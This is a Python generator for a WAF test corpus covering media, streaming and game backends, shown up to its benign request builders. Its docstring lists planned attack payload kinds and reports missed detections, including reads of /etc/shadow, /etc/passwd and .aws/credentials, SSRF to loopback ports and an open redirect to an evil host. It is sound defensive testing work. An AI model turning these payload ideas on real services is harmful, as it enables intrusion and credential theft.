#!/usr/bin/env python3
"""Held-out HTTP test corpus: media, streaming and gaming backends.

What it is
    A deterministic generator of realistic HTTP requests that video, music,
    podcast, live-streaming, game and ticketing backends receive, as they look
    on the wire behind a sidecar WAF: video platforms (resumable upload
    init / chunk / complete, tus PATCHes, HLS and DASH manifests and segments
    with byte ranges, CMCD and signed query tokens, Widevine / PlayReady /
    FairPlay licence requests with binary or SOAP bodies, WebVTT / SRT / TTML
    subtitle uploads with <i>, <b>, <c.yellow>, <v Speaker> and {\\an8}
    markup), music and podcast apps (RSS feed submissions, playlist edits,
    lyrics full of apostrophes and quotes, searches for "Guns N' Roses",
    "AC/DC", "!!!", "Sunn O)))" and friends), live streaming and chat
    (Twitch-like messages with emotes, !commands and /mod commands, ASCII
    art, <3 and >_< emoticons, code-ish memes, EventSub webhooks, websocket
    upgrades), game backends (matchmaking tickets, leaderboards, player
    profiles with clan tags like [xX_Sn1per_Xx], inventories and stores,
    telemetry batches from Unity / Unreal clients, anti-cheat reports with
    base64 blobs, mod uploads as real zip files, binary save-game sync, crash
    reports, replays, console and device-flow OAuth), ticketing and live
    events (seat maps, holds, Queue-it-like queue tokens), comment sections in
    many languages with emoji, recommendation and ad beacons with VAST
    macros, CDN purge and signed-URL APIs (CloudFront / Akamai-style tokens),
    and image transformation URLs (Cloudinary / imgix / thumbor /
    cdn-cgi/image styles).

    * benign       ~450 ordinary requests (expect "pass"), with the hard cases
                   a naive WAF trips on (band names and chat that look like
                   code or SQL, emoticons, ASCII art, HTML-ish subtitle
                   markup, thumbor's "/unsafe/" path, VAST macros, Akamai
                   "acl=/*" tokens); plus ~50 "dev-content" requests
                   (category "dev-content", still "pass"): game modders and
                   developers posting Lua, C#, HLSL/GLSL, SQL, shell, GDScript,
                   mcfunction and ffmpeg snippets to a forum or mod portal;
                   counted apart.
    * attacks      ~260 requests (expect "detect") with real attack payloads
                   in the domain's own injection points: SQLi in leaderboard
                   sort / filter / season parameters, searches and seat ids;
                   stored XSS in chat messages, WebVTT / SRT / TTML subtitles,
                   player names, playlist titles, podcast show notes and
                   comments; SSRF through podcast feed, thumbnail, webhook and
                   HLS variant-playlist URLs; ffmpeg HLS / concat playlists
                   reaching file:// and internal hosts; ImageMagick MVG / MSL /
                   SVG payloads in image uploads; XXE in TTML, DASH MPD, SVG,
                   RSS and PlayReady SOAP; path traversal in segment, asset,
                   subtitle and mod download paths; zip-slip entry names in
                   mod uploads; command injection in transcoding parameters;
                   SSTI in notification and e-mail templates; Log4Shell in
                   game-client headers and Minecraft-style chat; Java and .NET
                   deserialization in save games and session blobs; NoSQL
                   operators in login and leaderboard queries; LDAP filters in
                   studio SSO; CRLF in redirect and deep-link parameters;
                   request smuggling and Range abuse; scanner user agents and
                   probes; prototype pollution, ESI and other generic
                   injections.  Encodings vary (percent, double percent, JSON
                   \\u escapes, HTML entities, mixed case, comments).

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-media.py attacks > rulesets/tests/data/media-attacks.jsonl
    python3 scripts/corpus-media.py benign  > rulesets/tests/data/media-benign.jsonl
    python3 scripts/corpus-media.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "media", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
or, for bodies that must keep exact non-UTF-8 bytes (upload chunks, DRM
licence challenges, protobuf telemetry, zip mods, save games, gzip), {"id",
"set", "category", "expect", "raw_b64"} holding the whole raw request
(request line, headers with the correct Content-Length, body).
Ids are "media/<category>/<subgroup>-NNN"; ordinary benign requests are under
"media/benign/...", dev-content under "media/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-06, binary /work/bin/pr-now, built-in rules, paranoia 1, threshold 5)
Run once, nothing tuned; the corpus was not changed after seeing the results.
Counts: 294 attacks (sqli 37, xss 34, rce 27, ssrf 25, lfi 23, generic 21,
java 19, ssti 19, nosqli 16, scanner 16, protocol 13, php 10, xxe 10, crlf 10,
rfi 8, ldap 6), 523 benign (473 ordinary + 50 dev-content); 80 lines are
raw_b64 (47 benign: upload chunks and tus PATCHes, Widevine challenges,
gzip / protobuf telemetry, anti-cheat heartbeats, zip mod uploads, binary
saves, Unreal crash reports, multipart subtitle and forum uploads; 33
attacks: smuggling / framing, ffmpeg playlists and image payloads uploaded as
media, zip-slip mods, Java serialized saves, UTF-16 XXE).  The protocol/*
raw requests carry conflicting or malformed framing on purpose; every other
body's Content-Length is its byte length.

  attacks detected  285/294 = 96.9 %  (100 % in crlf, java, ldap, nosqli,
                    php, rfi, scanner, ssti, xss, xxe; sqli 36/37,
                    rce 26/27, generic 20/21, lfi 21/23, ssrf 23/25,
                    protocol 11/13).
                    Missed: sqli/search-002 (ORDER BY column probe in a path
                    segment), lfi/ffmpeg_hls-003 (m3u8 "video" using the
                    subfile protocol on /etc/shadow), lfi/ffmpeg_concat-001
                    (ffconcat list naming /etc/passwd and ../.aws/credentials),
                    rce/imagemagick-002 (SVG banner with an msl: image href),
                    ssrf/image_fetch-002 (thumbor /unsafe/ fetch of
                    127.0.0.1:8080), ssrf/hls_variant-003 (uploaded m3u8
                    pointing at 127.0.0.1:9200), protocol/bad_length-001
                    (20-digit Content-Length), protocol/h2c_upgrade-001 (h2c
                    upgrade to an internal path), generic/open_redirect-001
                    (next=//host.evil.example).
  benign flagged    12/473 = 2.5 %: upload_chunk-001..010 (a Content-Range
                    request header on resumable PUTs, NUL / non-UTF-8 bytes
                    in tus PATCH bodies), subtitles-009 (ASS override tag
                    {\\fad(200,200)}), chat-021 ("while(true) { watch_stream(); }").
  dev-content       14/50 = 28.0 % flagged (forum_post-002, -008, -012, -015,
                    -019, -020, -024; mod_changelog-001, -003, -004, -005;
                    snippet-004, -005, -008): SQL, shell, PowerShell, PHP,
                    JS and an OBS overlay with <script>.
"""

import base64
import gzip
import hashlib
import io
import json
import random
import struct
import sys
import zipfile
from urllib.parse import quote

SET = "media"

# --------------------------------------------------------------------------
# output plumbing
# --------------------------------------------------------------------------

_COUNTERS = {}


def _next_id(category, sub):
    key = (category, sub)
    _COUNTERS[key] = _COUNTERS.get(key, 0) + 1
    return "%s/%s/%s-%03d" % (SET, category, sub, _COUNTERS[key])


def _expect_for(category):
    return "pass" if category in ("benign", "dev-content") else "detect"


def mk(category, sub, method, uri, headers, body=None, cl=True):
    """A request as JSON fields; Content-Length is added for bodies."""
    headers = [list(h) for h in headers]
    if body is not None and cl and not any(h[0].lower() == "content-length" for h in headers):
        headers.append(["Content-Length", str(len(body.encode("utf-8")))])
    rec = {
        "id": _next_id(category, sub),
        "set": SET,
        "category": category,
        "expect": _expect_for(category),
        "method": method,
        "uri": uri,
        "version": "HTTP/1.1",
        "headers": headers,
    }
    if body is not None:
        rec["body"] = body
    return rec


def mkraw(category, sub, method, uri, headers, body=b"", cl=True, version="HTTP/1.1"):
    """A request as exact bytes (raw_b64)."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    lines = ["%s %s %s" % (method, uri, version)]
    has_cl = any(h[0].lower() == "content-length" for h in headers)
    for name, value in headers:
        lines.append("%s: %s" % (name, value))
    if cl and not has_cl and (body or method in ("POST", "PUT", "PATCH")):
        lines.append("Content-Length: %d" % len(body))
    head = ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8")
    return {
        "id": _next_id(category, sub),
        "set": SET,
        "category": category,
        "expect": _expect_for(category),
        "raw_b64": base64.b64encode(head + body).decode("ascii"),
    }


def mkwire(category, sub, raw):
    """A hand-written raw request (for deliberately odd framing)."""
    if isinstance(raw, str):
        raw = raw.encode("utf-8")
    return {
        "id": _next_id(category, sub),
        "set": SET,
        "category": category,
        "expect": _expect_for(category),
        "raw_b64": base64.b64encode(raw).decode("ascii"),
    }


def R(name):
    """A generator-private, reproducible random source."""
    return random.Random("media:" + name)


def pq(s, safe=""):
    """Percent-encode one query value / path segment as a client does."""
    return quote(s, safe=safe)


def qs(pairs, safe=""):
    return "&".join("%s=%s" % (pq(k, "[]"), pq(v, safe)) for k, v in pairs)


def jdump(obj, ascii_only=False):
    return json.dumps(obj, ensure_ascii=ascii_only, separators=(",", ":"))


def hexid(rng, n=16):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def b62(rng, n=22):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rng.choice(alphabet) for _ in range(n))


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def uuid4(rng):
    h = hexid(rng, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], rng.choice("89ab"), h[17:20], h[20:32])


def jwt(rng, sub=None, aud="api", iss="https://auth.ironforge-games.com/"):
    header = {"alg": "RS256", "typ": "JWT", "kid": hexid(rng, 12)}
    payload = {
        "iss": iss,
        "sub": sub or uuid4(rng),
        "aud": aud,
        "iat": 1714000000 + rng.randint(0, 900000),
        "exp": 1714003600 + rng.randint(0, 900000),
        "scope": rng.choice(["openid profile", "play stats:write", "media:read", "chat:read chat:edit"]),
    }
    sig = bytes(rng.getrandbits(8) for _ in range(64))
    return "%s.%s.%s" % (b64url(jdump(header).encode()), b64url(jdump(payload).encode()), b64url(sig))


def rbytes(rng, n):
    return bytes(rng.getrandbits(8) for _ in range(n))


# --------------------------------------------------------------------------
# client profiles
# --------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.97",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:124.0) Gecko/20100101 Firefox/124.0",
]

PLAYER_UAS = [
    "AppleCoreMedia/1.0.0.21E236 (iPhone; U; CPU OS 17_4_1 like Mac OS X; en_us)",
    "AppleCoreMedia/1.0.0.21L227 (Apple TV; U; CPU OS 17_4 like Mac OS X; en_us)",
    "ExoPlayerLib/2.19.1",
    "Vidora/5.12.0 (Linux;Android 13) AndroidXMedia3/1.3.1",
    "Roku/DVP-12.5 (12.5.0.4178-46)",
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 WebAppManager",
    "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36",
    "VLC/3.0.20 LibVLC/3.0.20",
    "Lavf/60.16.100",
]

UNITY_UAS = [
    "UnityPlayer/2022.3.21f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)",
    "UnityPlayer/2021.3.35f1 (UnityWebRequest/1.0, libcurl/7.84.0-DEV)",
    "UnityPlayer/6000.0.2f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)",
]

UNREAL_UAS = [
    "ShatterPoint/++UE5+Release-5.3-CL-29314046 Windows/10.0.22631.1.256.64bit",
    "ShatterPoint/++UE5+Release-5.3-CL-29314046 Linux/SteamOS 3.5.17",
    "RallyHeads/1.4.2-CL-188421 PS5/8.40",
    "RallyHeads/1.4.2-CL-188421 XSX/10.0.25398.4478",
]

CONSOLE_UAS = [
    "Mozilla/5.0 (PlayStation; PlayStation 5/8.40) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/20.02",
    "Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 (KHTML, like Gecko) NF/6.0.1.15.4 NintendoBrowser/5.1.0.20393",
]

PODCAST_UAS = [
    "Overcast/3.0 (+http://overcast.fm/; iOS podcast app)",
    "PocketCasts/1.0 (Pocket Casts Feed Parser; +http://pocketcasts.com/)",
    "AntennaPod/3.4.0",
    "Podcasts/1555.2.1 CFNetwork/1494.0.7 Darwin/23.4.0",
    "TuneWave/8.9.38 iOS/17.4.1 (iPhone15,3)",
    "TuneWave/8.9.40.511 Android/34 (SM-S918B)",
]

MOBILE_UAS = [
    "StreamHaven/17.2.0 (iPhone; iOS 17.4.1; Scale/3.00)",
    "okhttp/4.12.0",
    "StreamHaven/17.2.0 (com.streamhaven.app; build:1702003; Android 14) okhttp/4.12.0",
    "Dart/3.3 (dart:io)",
]

LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9,en;q=0.6", "pt-BR,pt;q=0.9,en-US;q=0.7",
         "fr-FR,fr;q=0.9", "ko-KR,ko;q=0.9,en-US;q=0.8", "es-MX,es;q=0.9,en;q=0.7", "tr-TR,tr;q=0.9", "en-GB,en;q=0.9"]


def browser(rng, host, accept="application/json, text/plain, */*", origin=None, cookie=True, ua=None):
    h = [["Host", host],
         ["User-Agent", ua or rng.choice(BROWSER_UAS)],
         ["Accept", accept],
         ["Accept-Language", rng.choice(LANGS)],
         ["Accept-Encoding", "gzip, deflate, br"]]
    if origin:
        h.append(["Origin", origin])
        h.append(["Referer", origin + "/"])
    if cookie:
        h.append(["Cookie", "sid=%s; _ga=GA1.2.%d.%d" % (b62(rng, 32), rng.randint(10**8, 10**9), 1710000000 + rng.randint(0, 9**6))])
    h.append(["Connection", "keep-alive"])
    return h


def api(rng, host, ua=None, ctype=None, auth=True, accept="application/json", extra=()):
    h = [["Host", host], ["User-Agent", ua or rng.choice(BROWSER_UAS + MOBILE_UAS)], ["Accept", accept]]
    if auth:
        h.append(["Authorization", "Bearer " + jwt(rng)])
    if ctype:
        h.append(["Content-Type", ctype])
    h.extend([list(x) for x in extra])
    h.append(["Accept-Encoding", "gzip"])
    return h


def player(rng, host, ua=None, rng_hdr=None):
    h = [["Host", host], ["User-Agent", ua or rng.choice(PLAYER_UAS)], ["Accept", "*/*"]]
    if rng_hdr:
        h.append(["Range", rng_hdr])
    h.extend([["Accept-Encoding", "identity"], ["Connection", "keep-alive"]])
    return h


def game(rng, host, engine=None, ctype=None, auth=True, extra=()):
    engine = engine or rng.choice(["unity", "unreal"])
    if engine == "unity":
        h = [["Host", host], ["User-Agent", rng.choice(UNITY_UAS)], ["Accept", "*/*"],
             ["X-Unity-Version", rng.choice(["2022.3.21f1", "2021.3.35f1", "6000.0.2f1"])]]
    else:
        h = [["Host", host], ["User-Agent", rng.choice(UNREAL_UAS)], ["Accept", "*/*"]]
    if auth:
        h.append(["Authorization", "Bearer " + jwt(rng, aud="game")])
    if ctype:
        h.append(["Content-Type", ctype])
    h.append(["X-Build-Id", "%d.%d.%d-%s" % (rng.randint(1, 3), rng.randint(0, 20), rng.randint(0, 99), hexid(rng, 7))])
    h.extend([list(x) for x in extra])
    h.append(["Accept-Encoding", "deflate, gzip"])
    return h


def form(pairs):
    return qs(pairs)


def multipart(rng, parts):
    """parts: list of (name, filename or None, content-type or None, bytes|str). Returns (ctype, body bytes)."""
    boundary = "----WebKitFormBoundary" + b62(rng, 16)
    out = io.BytesIO()
    for name, filename, ctype, data in parts:
        if isinstance(data, str):
            data = data.encode("utf-8")
        out.write(("--%s\r\n" % boundary).encode())
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        out.write((disp + "\r\n").encode("utf-8"))
        if ctype:
            out.write(("Content-Type: %s\r\n" % ctype).encode())
        out.write(b"\r\n")
        out.write(data)
        out.write(b"\r\n")
    out.write(("--%s--\r\n" % boundary).encode())
    return "multipart/form-data; boundary=" + boundary, out.getvalue()


def make_zip(entries):
    """A real, reproducible zip file from (name, text|bytes) entries."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=(2024, 4, 12, 18, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            zf.writestr(info, data)
    return buf.getvalue()


def pb_varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_field(num, value):
    """Minimal protobuf encoder: int -> varint, bytes/str -> length-delimited."""
    if isinstance(value, int):
        return pb_varint(num << 3) + pb_varint(value)
    if isinstance(value, str):
        value = value.encode("utf-8")
    return pb_varint((num << 3) | 2) + pb_varint(len(value)) + value


# --------------------------------------------------------------------------
# hosts
# --------------------------------------------------------------------------

VID_API = "api.vidora.tv"
VID_CDN = "cdn.vidora.tv"
VID_EDGE = "edge-fra3.vidora-cdn.net"
VID_UP = "upload.vidora.tv"
VID_DRM = "drm.vidora.tv"
VID_WEB = "https://www.vidora.tv"
IMG = "img.vidora.tv"
MUS_API = "api.tunewave.fm"
MUS_WEB = "https://open.tunewave.fm"
POD_API = "podcasters.tunewave.fm"
LIVE_API = "api.streamhaven.live"
LIVE_CHAT = "irc-ws.streamhaven.live"
LIVE_WEB = "https://www.streamhaven.live"
G_API = "api.ironforge-games.com"
G_MATCH = "mm.ironforge-games.com"
G_TELE = "telemetry.ironforge-games.com"
G_MODS = "mods.ironforge-games.com"
G_SAVE = "saves.ironforge-games.com"
G_AUTH = "auth.ironforge-games.com"
G_FORUM = "forums.ironforge-games.com"
G_WEB = "https://play.ironforge-games.com"
TIX_API = "api.seatrush.com"
TIX_QUEUE = "queue.seatrush.com"
TIX_WEB = "https://www.seatrush.com"
ADS = "beacon.adspring-media.net"
CDN_API = "api.fastedge.io"

RENDITIONS = ["240p", "360p", "480p", "720p", "1080p", "1440p", "2160p"]


def asset_id(rng):
    return "v" + b62(rng, 11)


# --------------------------------------------------------------------------
# benign: video platform
# --------------------------------------------------------------------------

def b_hls_manifest():
    rng, out = R("hls_manifest"), []
    for i in range(14):
        a = asset_id(rng)
        exp = 1714000000 + rng.randint(0, 800000)
        kind = i % 6
        if kind == 0:
            uri = "/vod/%s/master.m3u8?%s" % (a, qs([("token", b62(rng, 43)), ("expires", str(exp))]))
        elif kind == 1:
            uri = "/live/%s/index.m3u8?_HLS_msn=%d&_HLS_part=%d" % (
                rng.choice(["ch_speedrunsdaily", "ch_lofi_beats", "ch_esports_main"]), rng.randint(1000, 90000), rng.randint(0, 5))
            if rng.random() < 0.5:
                uri += "&_HLS_skip=YES"
        elif kind == 2:
            r = rng.choice(RENDITIONS)
            uri = "/hls/%s/%s/playlist.m3u8?hdnts=st=%d~exp=%d~acl=/hls/%s/*~hmac=%s" % (
                a, r, exp - 3600, exp, a, hexid(rng, 64))
        elif kind == 3:
            def cf64(data):
                return base64.b64encode(data).decode().replace("+", "-").replace("=", "_").replace("/", "~")
            policy = cf64(jdump({"Statement": [{"Resource": "https://%s/vod/%s/*" % (VID_CDN, a),
                                                "Condition": {"DateLessThan": {"AWS:EpochTime": exp}}}]}).encode())
            uri = "/vod/%s/master.m3u8?Policy=%s&Signature=%s&Key-Pair-Id=K%s" % (
                a, policy, cf64(rbytes(rng, 128)), b62(rng, 13).upper())
        elif kind == 4:
            uri = "/vod/%s/audio/%s/playlist.m3u8?%s" % (a, rng.choice(["en", "de", "ja", "es-419", "pt-BR"]),
                                                          qs([("sig", hexid(rng, 40)), ("e", str(exp)), ("cdn", "fra3")]))
        else:
            uri = "/vod/%s/subs/%s.m3u8?%s" % (a, rng.choice(["en-CC", "fr", "ko"]), qs([("token", b62(rng, 43))]))
        h = player(rng, rng.choice([VID_CDN, VID_EDGE]))
        if rng.random() < 0.4:
            h.insert(2, ["Origin", VID_WEB])
            h[1][1] = rng.choice(BROWSER_UAS)
        out.append(mk("benign", "hls_manifest", "GET", uri, h))
    return out


def b_hls_segment():
    rng, out = R("hls_segment"), []
    for i in range(18):
        a = asset_id(rng)
        r = rng.choice(RENDITIONS)
        n = rng.randint(0, 1800)
        kind = i % 5
        rng_hdr = None
        extra = []
        if kind == 0:
            uri = "/vod/%s/%s/seg_%05d.ts" % (a, r, n)
        elif kind == 1:
            uri = "/vod/%s/%s/init.mp4" % (a, r)
            rng_hdr = "bytes=0-%d" % rng.randint(700, 1400)
        elif kind == 2:
            start = rng.randint(0, 50) * 1048576
            uri = "/vod/%s/%s/main.mp4" % (a, r)
            rng_hdr = "bytes=%d-%d" % (start, start + rng.randint(300000, 1500000))
        elif kind == 3:
            cm = "bl=%d,br=%d,bs,d=4004,mtp=%d,ot=v,sf=h,sid=\"%s\",st=v,tb=6000" % (
                rng.randint(1000, 30000), rng.choice([800, 1600, 3200, 6500]), rng.randint(5000, 90000), uuid4(rng))
            uri = "/vod/%s/%s/seg_%05d.m4s?CMCD=%s" % (a, r, n, pq(cm))
        else:
            uri = "/live/ch_%s/%s/%d.m4s" % (rng.choice(["speedrunsdaily", "lofi_beats", "cozy_cooking"]), r, 900000 + n)
            extra = [["CMCD-Object", "br=%d,d=2002,ot=v,tb=6000" % rng.choice([1600, 3200])],
                     ["CMCD-Request", "bl=%d,mtp=%d,su" % (rng.randint(100, 4000), rng.randint(8000, 60000))],
                     ["CMCD-Session", "cid=\"ch_live\",pr=1.00,sf=h,sid=\"%s\",st=l" % uuid4(rng)]]
        h = player(rng, rng.choice([VID_CDN, VID_EDGE]), rng_hdr=rng_hdr)
        h[2:2] = extra
        out.append(mk("benign", "hls_segment", "GET", uri, h))
    return out


def b_dash():
    rng, out = R("dash"), []
    for i in range(13):
        a = asset_id(rng)
        kind = i % 4
        rng_hdr = None
        if kind == 0:
            uri = "/dash/%s/manifest.mpd?%s" % (a, qs([("token", b62(rng, 32)), ("drm", rng.choice(["widevine", "playready"]))]))
        elif kind == 1:
            uri = "/dash/%s/video/avc1/%d/seg-%d.m4s" % (a, rng.randint(1, 6), rng.randint(1, 900))
        elif kind == 2:
            uri = "/dash/%s/audio/mp4a/%s/%d.m4s" % (a, rng.choice(["en", "de", "fr", "ja"]), rng.randint(1, 900) * 96256)
        else:
            uri = "/dash/%s/video_%s_h265.mp4" % (a, rng.choice(["1080", "2160", "720"]))
            s = rng.randint(800, 1200)
            rng_hdr = "bytes=%d-%d" % (s, s + rng.randint(1000, 4000))
        h = player(rng, VID_CDN, ua=rng.choice(PLAYER_UAS[2:7] + BROWSER_UAS[:2]), rng_hdr=rng_hdr)
        out.append(mk("benign", "dash", "GET", uri, h))
    return out


VIDEO_TITLES = [
    "Let's Play: Baldur's Gate 3 — Part #14 (No Commentary)",
    "[4K] Tokyo night walk 🌃 Shinjuku → Shibuya",
    "Ep. 12 – \"The Heist\" (final cut)",
    "How I built a 1:1 scale CPU in Minecraft",
    "SQL vs NoSQL in 100 seconds",
    "Mom's \"secret\" lasagna recipe 🍝 (it's not that secret)",
    "Speedrun WR 1:42.37 — Any% glitchless",
    "Q&A #3: answering your questions (w/ @dani_draws)",
    "¿Por qué nadie habla de esto? | Análisis",
    "Rust vs C++ — which one should you learn in 2024?",
    "Unboxing the PS5 Pro... is it worth $699?!",
    "진짜 맛있는 김치찌개 만드는 법",
    "50% off?! <- not clickbait, I promise",
]


def b_upload_init():
    rng, out = R("upload_init"), []
    for i in range(11):
        title = VIDEO_TITLES[i % len(VIDEO_TITLES)]
        size = rng.randint(20, 9000) * 1048576 + rng.randint(0, 1048575)
        ext = rng.choice(["mp4", "mov", "mkv", "webm"])
        body = {
            "filename": "%s.%s" % (rng.choice(["final_v3", "IMG_4821", "ep12 master (1)", "stream-2024-04-11", "render_0001-2400"]), ext),
            "size": size,
            "mime": {"mp4": "video/mp4", "mov": "video/quicktime", "mkv": "video/x-matroska", "webm": "video/webm"}[ext],
            "sha256": hashlib.sha256(title.encode()).hexdigest(),
            "title": title,
            "description": rng.choice([
                "Timestamps:\n0:00 intro\n2:15 the plan\n14:02 it's going wrong...\n\nMusic: \"Neon Rain\" by Kaito (CC BY 4.0)",
                "Thanks for watching! Don't forget to like & subscribe <3",
                "Gear: Sony A7 IV, 24-70mm f/2.8 GM\nEdited in DaVinci Resolve 18.6",
                "",
                "Part 1/3 — links in the pinned comment ↓",
            ]),
            "tags": rng.sample(["gaming", "vlog", "tutorial", "4k", "music", "cooking", "speedrun", "tech", "travel"], 3),
            "visibility": rng.choice(["public", "unlisted", "private"]),
            "chunk_size": rng.choice([5, 8, 16, 64]) * 1048576,
            "made_for_kids": False,
        }
        h = api(rng, VID_UP, ctype="application/json", extra=[["Origin", VID_WEB], ["X-Upload-Content-Length", str(size)]])
        out.append(mk("benign", "upload_init", "POST", "/api/v2/uploads?uploadType=resumable", h, jdump(body)))
    return out


def b_upload_chunk():
    rng, out = R("upload_chunk"), []
    for i in range(10):
        up = b62(rng, 24)
        total = rng.randint(50, 900) * 1048576
        n = rng.randint(1, 40)
        size = rng.choice([1024, 2048, 3072])
        data = rbytes(rng, size)
        if n == 1 or i % 4 == 0:
            data = struct.pack(">I", 32) + b"ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + data[32:]
            off = 0
        else:
            off = (n - 1) * 8388608
        if i % 3 == 2:
            h = [["Host", VID_UP], ["User-Agent", rng.choice(BROWSER_UAS)], ["Tus-Resumable", "1.0.0"],
                 ["Upload-Offset", str(off)], ["Content-Type", "application/offset+octet-stream"],
                 ["Authorization", "Bearer " + jwt(rng)], ["Origin", VID_WEB]]
            out.append(mkraw("benign", "upload_chunk", "PATCH", "/files/%s" % up, h, data))
        else:
            h = [["Host", VID_UP], ["User-Agent", rng.choice(BROWSER_UAS + MOBILE_UAS)],
                 ["Content-Type", "application/octet-stream"],
                 ["Content-Range", "bytes %d-%d/%d" % (off, off + size - 1, total)],
                 ["Authorization", "Bearer " + jwt(rng)], ["X-Goog-Upload-Command", "upload"],
                 ["X-Goog-Upload-Offset", str(off)]]
            out.append(mkraw("benign", "upload_chunk", "PUT",
                             "/api/v2/uploads/%s/parts/%d?%s" % (up, n, qs([("upload_id", b62(rng, 40))])), h, data))
    return out


def b_upload_complete():
    rng, out = R("upload_complete"), []
    for i in range(7):
        up = b62(rng, 24)
        if i % 3 == 2:
            meta = ",".join("%s %s" % (k, base64.b64encode(v.encode()).decode()) for k, v in [
                ("filename", rng.choice(["Mom's birthday 🎂.mov", "clip (2).mp4", "raid night #42.mkv"])),
                ("filetype", "video/mp4"), ("title", rng.choice(VIDEO_TITLES))])
            h = [["Host", VID_UP], ["User-Agent", rng.choice(BROWSER_UAS)], ["Tus-Resumable", "1.0.0"],
                 ["Upload-Length", str(rng.randint(10**7, 10**9))], ["Upload-Metadata", meta],
                 ["Authorization", "Bearer " + jwt(rng)], ["Origin", VID_WEB], ["Content-Length", "0"]]
            out.append(mk("benign", "upload_complete", "POST", "/files/", h))
            continue
        parts = [{"PartNumber": k + 1, "ETag": "\"%s\"" % hexid(rng, 32)} for k in range(rng.randint(2, 6))]
        body = {"parts": parts, "upload_id": b62(rng, 40), "thumbnail_time_ms": rng.randint(0, 600000),
                "chapters": [{"t": 0, "title": "Intro"}, {"t": 95, "title": "Let's go!"}]}
        h = api(rng, VID_UP, ctype="application/json", extra=[["Origin", VID_WEB]])
        out.append(mk("benign", "upload_complete", "POST", "/api/v2/uploads/%s/complete" % up, h, jdump(body)))
    return out


def b_drm_license():
    rng, out = R("drm_license"), []
    for i in range(11):
        kind = i % 4
        a = asset_id(rng)
        if kind == 0:
            body = (pb_field(1, 1) + pb_field(2, rbytes(rng, 180) ) + pb_field(3, rbytes(rng, 256))
                    + pb_field(4, b"\x08\x01\x12\x10" + rbytes(rng, 16)) + pb_field(6, "WIDEVINE_SECURITY_LEVEL_3"))
            h = [["Host", VID_DRM], ["User-Agent", rng.choice(BROWSER_UAS + PLAYER_UAS[2:4])],
                 ["Content-Type", "application/octet-stream"], ["Origin", VID_WEB],
                 ["X-DRM-Token", jwt(rng, aud="drm")], ["Accept", "*/*"]]
            out.append(mkraw("benign", "drm_license", "POST", "/widevine/license?%s" % qs([("contentId", a), ("kid", hexid(rng, 32))]), h, body))
        elif kind == 1:
            spc = base64.b64encode(rbytes(rng, 300)).decode()
            body = "spc=%s&assetId=%s" % (pq(spc), a)
            h = [["Host", VID_DRM], ["User-Agent", rng.choice(PLAYER_UAS[:2])],
                 ["Content-Type", "application/x-www-form-urlencoded"], ["Accept", "*/*"],
                 ["Authorization", "Bearer " + jwt(rng, aud="drm")]]
            out.append(mk("benign", "drm_license", "POST", "/fairplay/ckc", h, body))
        elif kind == 2:
            challenge = base64.b64encode(rbytes(rng, 240)).decode()
            body = ('<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                    'xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
                    '<soap:Body><AcquireLicense xmlns="http://schemas.microsoft.com/DRM/2007/03/protocols"><challenge>'
